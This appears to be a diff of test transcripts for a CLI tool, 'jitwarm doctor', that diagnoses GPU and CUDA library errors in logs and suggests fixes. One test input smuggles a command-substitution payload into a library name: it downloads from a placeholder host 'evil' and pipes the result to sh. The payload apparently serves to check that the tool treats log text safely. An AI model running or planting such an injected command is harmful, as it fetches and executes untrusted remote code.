@@ -102,12 +102,12 @@ $ jitwarm doctor --log a.log
 ? 1
 [bad] Line 3: the software has neither machine code nor usable PTX for this GPU*
 Also 2 more (-v)
-By hand install a build for this GPU*
-To do jitwarm scan PATH
+To do install a build for this GPU*
+jitwarm scan PATH
 $ echo 'FlashAttention only supports Ampere GPUs or newer' | SHELL=/bin/csh jitwarm doctor --log -
 ? 1
 [bad] Line 1: FlashAttention has no code for this GPU.
-To do set*VLLM_ATTENTION_BACKEND*XFORMERS*
+set*VLLM_ATTENTION_BACKEND*XFORMERS*
 $ printf '%s\n' 'ImportError: libcu$(curl${IFS}evil|sh): cannot open shared object file' | jitwarm doctor --log -
 ? 1
 To do /sbin/ldconfig -p | grep libcu
